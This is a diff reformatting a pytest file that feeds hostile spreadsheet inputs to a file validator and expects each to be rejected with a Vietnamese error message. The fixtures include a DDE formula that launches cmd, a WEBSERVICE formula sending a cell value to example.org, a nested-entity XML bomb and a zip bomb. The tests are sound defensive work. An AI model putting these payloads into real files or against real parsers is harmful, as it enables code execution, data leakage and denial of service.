@@ -49,7 +49,13 @@ def sheet_xml(body: bytes, dimension: bytes = b"A1:B2") -> bytes:
 
 
 def two_million_rows() -> bytes:
-    return rebuilt({SHEET: sheet_xml(b'<row r="1"><c r="A1"><v>1</v></c></row><row r="2000000"><c r="XFD2000000"><v>1</v></c></row>')})
+    return rebuilt(
+        {
+            SHEET: sheet_xml(
+                b'<row r="1"><c r="A1"><v>1</v></c></row><row r="2000000"><c r="XFD2000000"><v>1</v></c></row>'
+            )
+        }
+    )
 
 
 def bomb() -> bytes:
@@ -58,7 +64,13 @@ def bomb() -> bytes:
 
 def many_entities() -> bytes:
     entities = b"".join(b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1)) * 10 if n else b"lol") for n in range(12))
-    return rebuilt({SHEET: b"<!DOCTYPE x [" + entities + b']><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&a11;</v></c></row></sheetData></worksheet>'})
+    return rebuilt(
+        {
+            SHEET: b"<!DOCTYPE x ["
+            + entities
+            + b']><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&a11;</v></c></row></sheetData></worksheet>'
+        }
+    )
 
 
 def deep_xml() -> bytes:
@@ -66,7 +78,9 @@ def deep_xml() -> bytes:
 
 
 def encrypted() -> bytes:
-    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2000
+    return (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2000
+    )
 
 
 def formula(text: bytes) -> bytes:
@@ -80,17 +94,26 @@ HOSTILE = [
     pytest.param("a.xlsx", b"no workbook at all", "Tệp bị hỏng, không mở được.", id="text named as a workbook"),
     pytest.param("a.pdf", b"%PDF-1.7 ...", "Không đọc được loại tệp này.", id="a PDF"),
     pytest.param("a.xlsx", encrypted(), "Tệp được đặt mật khẩu.", id="a password"),
-    pytest.param("a.xlsm", rebuilt({"xl/vbaProject.bin": b"x"}), "Tệp có macro (chương trình chạy kèm), không được nhận.", id="macros"),
+    pytest.param(
+        "a.xlsm",
+        rebuilt({"xl/vbaProject.bin": b"x"}),
+        "Tệp có macro (chương trình chạy kèm), không được nhận.",
+        id="macros",
+    ),
     pytest.param("a.xlsx", bomb(), "Tệp nén bất thường: mở ra lớn gấp nhiều lần, không được đọc.", id="a bomb"),
     pytest.param(
-        "a.xlsx", formula(b"cmd|&apos;/C calc&apos;!A0"),
-        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).", id="a formula that starts a program",
+        "a.xlsx",
+        formula(b"cmd|&apos;/C calc&apos;!A0"),
+        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).",
+        id="a formula that starts a program",
     ),
     pytest.param(
-        "a.xlsx", formula(b'WEBSERVICE("http://example.org/"&amp;A1)'),
-        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).", id="a formula that asks the network",
+        "a.xlsx",
+        formula(b'WEBSERVICE("http://example.org/"&amp;A1)'),
+        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).",
+        id="a formula that asks the network",
     ),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("name", "content", "problem"), HOSTILE)
